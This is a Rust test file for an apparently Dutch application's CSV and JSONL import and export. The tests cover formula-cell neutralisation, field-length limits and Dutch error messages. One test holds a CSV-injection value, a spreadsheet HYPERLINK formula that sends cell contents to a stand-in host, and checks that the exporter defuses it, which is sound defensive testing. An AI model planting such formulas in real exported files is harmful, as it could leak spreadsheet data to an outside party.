//! Tests of import and export.

use super::*;
use proptest::prelude::*;

fn demo_offering() -> Offering {
    let tax = Taxonomy::builtin();
    let line = include_str!("../../data/demo/aanbod.jsonl")
        .lines()
        .next()
        .unwrap_or_default();
    match parse_offerings(line, Format::Jsonl, &tax) {
        Ok(mut o) => o.remove(0),
        Err(p) => panic!("demo line: {p:?}"),
    }
}

fn csv_of(items: &[Offering]) -> String {
    let mut out = Vec::new();
    export(items, Format::Csv, offering::FIELDS, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// Every cell of a CSV text, header excluded.
fn cells(text: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

#[test]
fn formula_cells_are_neutralised_and_read_back_unchanged() {
    assert_eq!(neutralise_cell("=1+1"), "'=1+1");
    assert_eq!(neutralise_cell("+31 20"), "'+31 20");
    assert_eq!(neutralise_cell("-5 graden"), "'-5 graden");
    assert_eq!(neutralise_cell("@SUM(A1)"), "'@SUM(A1)");
    assert_eq!(neutralise_cell("\t=1"), "'\t=1");
    assert_eq!(neutralise_cell("\r=1"), "'\r=1");
    // A quote that belongs to the text stays as it is, unless a formula follows it.
    assert_eq!(neutralise_cell("'s-Hertogenbosch"), "'s-Hertogenbosch");
    assert_eq!(neutralise_cell("'=1"), "''=1");
    assert_eq!(neutralise_cell("''-1"), "'''-1");
    assert_eq!(neutralise_cell("gewoon"), "gewoon");
    assert_eq!(neutralise_cell(""), "");
    for cell in [
        "'=1+1",
        "''=1",
        "'s-Hertogenbosch",
        "'",
        "''",
        "gewoon",
        "'-",
    ] {
        assert_eq!(
            neutralise_cell(restore_cell(cell)),
            cell,
            "{cell} as neutralise_cell writes it"
        );
    }
    assert_eq!(restore_cell("'=1"), "=1");
    assert_eq!(restore_cell("''=1"), "'=1");
    assert_eq!(restore_cell("'s-Hertogenbosch"), "'s-Hertogenbosch");
}

#[test]
fn csv_export_holds_no_formula_and_imports_back_to_the_same_offering() {
    let tax = Taxonomy::builtin();
    let mut o = demo_offering();
    o.titel = "=HYPERLINK(\"https://kwaad.example/?d=\"&A1,\"Klik\")".into();
    o.samenvatting = "-5 graden: buiten werken in de winter".into();
    o.beschrijving = "@SOM(A1:A9)\n\nTweede alinea.".into();
    o.aanbieder = "'s-Hertogenbosch Samen".into();
    o.partners = vec!["+31 Partners".into(), "'=al beschermd".into(), "'-".into()];
    o.trefwoorden = vec!["=1+1".into(), "gewoon".into()];
    let text = csv_of(std::slice::from_ref(&o));
    for cell in cells(&text) {
        assert!(!cell.starts_with(FORMULA), "formula cell {cell:?}");
    }
    assert!(text.contains("'=HYPERLINK("));
    assert!(text.contains(",'s-Hertogenbosch Samen,"), "no extra quote");
    let back = parse_offerings(&text, Format::Csv, &tax).unwrap();
    assert_eq!(back, vec![o]);
}

#[test]
fn csv_and_json_errors_are_in_dutch() {
    let tax = Taxonomy::builtin();
    let p = parse_offerings("{\"id\": ", Format::Jsonl, &tax).unwrap_err();
    assert_eq!(
        p[0].to_string(),
        "regel 1: ongeldige JSON bij teken 7: de regel houdt op midden in een waarde"
    );
    let p = parse_questions("id,vraag,datum\na,b\n", Format::Csv, &tax).unwrap_err();
    assert_eq!(
        p[0].to_string(),
        "regel 2: ongeldige CSV-regel: 2 kolommen, maar de kopregel heeft er 3"
    );
}

#[test]
fn a_too_long_description_is_refused_naming_line_and_field() {
    let tax = Taxonomy::builtin();
    let mut o = demo_offering();
    o.beschrijving = "a".repeat(offering::MAX_DESCRIPTION);
    let mut ok = Vec::new();
    export(&[o.clone()], Format::Jsonl, offering::FIELDS, &mut ok).unwrap();
    let ok = String::from_utf8(ok).unwrap();
    assert!(
        parse_offerings(&ok, Format::Jsonl, &tax).is_ok(),
        "the limit itself is fine"
    );
    o.beschrijving.push('b');
    o.id = "tweede".into();
    let mut bad = Vec::new();
    export(&[o], Format::Jsonl, offering::FIELDS, &mut bad).unwrap();
    let text = format!("{ok}{}", String::from_utf8(bad).unwrap());
    let p = parse_offerings(&text, Format::Jsonl, &tax).unwrap_err();
    assert_eq!(
        p.iter().map(ToString::to_string).collect::<Vec<_>>(),
        vec!["regel 2, veld 'beschrijving': te lang: 10001 tekens, maximaal 10000"]
    );
}

#[test]
fn every_free_text_of_an_import_is_bounded() {
    let tax = Taxonomy::builtin();
    let base = serde_json::to_value(demo_offering()).unwrap();
    let long = "x".repeat(20_001);
    for field in [
        "id",
        "titel",
        "samenvatting",
        "beschrijving",
        "aanbieder",
        "kosten",
        "regio",
        "url",
        "vorm",
        "locatie",
        "startdatum",
    ] {
        let mut v = base.clone();
        v[field] = Value::String(long.clone());
        let p = parse_offerings(&v.to_string(), Format::Jsonl, &tax).unwrap_err();
        assert!(
            p.iter()
                .any(|p| p.field == field && p.reason.starts_with("te lang: 20001 tekens")),
            "{field}: {p:?}"
        );
        assert!(p.iter().all(|p| p.reason.len() < 300), "{field}: short");
    }
    for field in [
        "partners",
        "trefwoorden",
        "themas",
        "doelgroepen",
        "sectoren",
    ] {
        let mut v = base.clone();
        v[field] = serde_json::json!([long.clone()]);
        let p = parse_offerings(&v.to_string(), Format::Jsonl, &tax).unwrap_err();
        assert!(
            p.iter()
                .any(|p| p.field == field && p.reason.contains("is te lang: 20001 tekens")),
            "{field}: {p:?}"
        );
        assert!(p.iter().all(|p| p.reason.len() < 300), "{field}: short");
        let mut v = base.clone();
        v[field] = serde_json::json!((0..60).map(|i| format!("w{i}")).collect::<Vec<_>>());
        let p = parse_offerings(&v.to_string(), Format::Jsonl, &tax).unwrap_err();
        assert!(
            p.iter()
                .any(|p| p.field == field && p.reason.starts_with("te veel: 60 waarden")),
            "{field}: {p:?}"
        );
    }
    let question = serde_json::json!({
        "id": "v1", "vraag": "x".repeat(2_001), "datum": "2026-01-01", "gemeente": long
    });
    let p = parse_questions(&question.to_string(), Format::Jsonl, &tax).unwrap_err();
    let fields: Vec<&str> = p.iter().map(|p| p.field.as_str()).collect();
    assert_eq!(fields, vec!["vraag", "gemeente"]);
}

/// Any text made of the characters that matter to CSV and spreadsheets.
fn tricky_text() -> impl Strategy<Value = String> {
    proptest::string::string_regex("[=+@'\t\r\n\", ;a-zé€-]{0,12}").unwrap()
}

/// A trimmed, non-empty text (what the import keeps); without `;` for list items.
fn field_text(list_item: bool) -> impl Strategy<Value = String> {
    tricky_text().prop_map(move |s| {
        let s = if list_item { s.replace(';', "") } else { s };
        match s.trim() {
            "" => "x".to_string(),
            t => t.to_string(),
        }
    })
}

/// Any JSON value a record field might hold.
fn json_value() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(Value::from),
        "\\PC{0,30}".prop_map(Value::String),
        "(20[0-9]{2}-[01][0-9]-[0-3][0-9])|gratis|€ [0-9.,]{1,8}|https://[a-z.]{1,10}"
            .prop_map(Value::String),
    ];
    leaf.prop_recursive(2, 8, 4, |inner| {
        proptest::collection::vec(inner, 0..4).prop_map(Value::Array)
    })
}

/// A result is a value, or problems that each carry a Dutch reason (none of the English of
/// serde_json or the csv crate).
fn check_dutch(result: Result<(), Vec<ImportProblem>>) -> Result<(), TestCaseError> {
    if let Err(problems) = result {
        prop_assert!(!problems.is_empty());
        for p in problems {
            prop_assert!(!p.reason.is_empty());
            for english in [
                "expected", "found", "invalid", " at line", "column", "EOF", "record",
            ] {
                prop_assert!(!p.reason.contains(english), "{}", p.reason);
            }
        }
    }
    Ok(())
}

proptest! {
    #[test]
    fn neutralised_cells_restore_exactly(text in "\\PC{0,8}", prefix in "['=+@\t-]{0,4}") {
        let text = format!("{prefix}{text}");
        let cell = neutralise_cell(&text);
        prop_assert!(!cell.starts_with(FORMULA));
        prop_assert_eq!(restore_cell(&cell), text.as_str());
    }

    #[test]
    fn csv_round_trip_holds_for_any_text(
        titel in field_text(false),
        samenvatting in field_text(false),
        beschrijving in field_text(false),
        aanbieder in field_text(false),
        partners in proptest::collection::vec(field_text(true), 0..3),
        trefwoorden in proptest::collection::vec(field_text(true), 0..3),
    ) {
        let tax = Taxonomy::builtin();
        let mut o = demo_offering();
        o.titel = titel;
        o.samenvatting = samenvatting;
        o.beschrijving = beschrijving;
        o.aanbieder = aanbieder;
        o.partners = partners;
        o.trefwoorden = trefwoorden;
        let text = csv_of(std::slice::from_ref(&o));
        for cell in cells(&text) {
            prop_assert!(!cell.starts_with(FORMULA), "{:?}", cell);
        }
        // Every import makes line endings `\n`, as every form does: what comes back is the
        // offering with its texts so normalised (for text already stored, the offering itself).
        let n = crate::domain::text::normalize_newlines;
        let mut expected = o.clone();
        for t in [
            &mut expected.titel,
            &mut expected.samenvatting,
            &mut expected.beschrijving,
            &mut expected.aanbieder,
            &mut expected.regio,
        ] {
            *t = n(t);
        }
        prop_assert_eq!(parse_offerings(&text, Format::Csv, &tax), Ok(vec![expected.clone()]));
        prop_assert_eq!(
            parse_offerings(&csv_of(std::slice::from_ref(&expected)), Format::Csv, &tax),
            Ok(vec![expected])
        );
    }

    #[test]
    fn any_import_text_gives_values_or_dutch_problems(
        text in "\\PC{0,200}",
        csv in any::<bool>(),
    ) {
        let tax = Taxonomy::builtin();
        let format = if csv { Format::Csv } else { Format::Jsonl };
        check_dutch(parse_offerings(&text, format, &tax).map(|_| ()))?;
        check_dutch(parse_questions(&text, format, &tax).map(|_| ()))?;
    }

    #[test]
    fn any_record_gives_a_value_or_dutch_problems(
        values in proptest::collection::vec((0usize..21, json_value()), 0..12),
        csv in any::<bool>(),
    ) {
        let tax = Taxonomy::builtin();
        let names: Vec<&str> = offering::FIELDS
            .iter()
            .chain(["vraag", "datum", "gemeente", "onbekend"].iter())
            .copied()
            .collect();
        let mut map = Map::new();
        for (i, v) in values {
            map.insert(names[i % names.len()].to_string(), v);
        }
        let text = if csv {
            // The same record as a CSV row of texts.
            let mut w = csv::Writer::from_writer(Vec::new());
            w.write_record(map.keys()).unwrap();
            w.write_record(map.values().map(|v| match v {
                Value::String(s) => s.clone(),
                other => other.to_string(),
            }))
            .unwrap();
            String::from_utf8(w.into_inner().unwrap()).unwrap()
        } else {
            Value::Object(map).to_string()
        };
        let format = if csv { Format::Csv } else { Format::Jsonl };
        check_dutch(parse_offerings(&text, format, &tax).map(|_| ()))?;
        check_dutch(parse_questions(&text, format, &tax).map(|_| ()))?;
    }
}
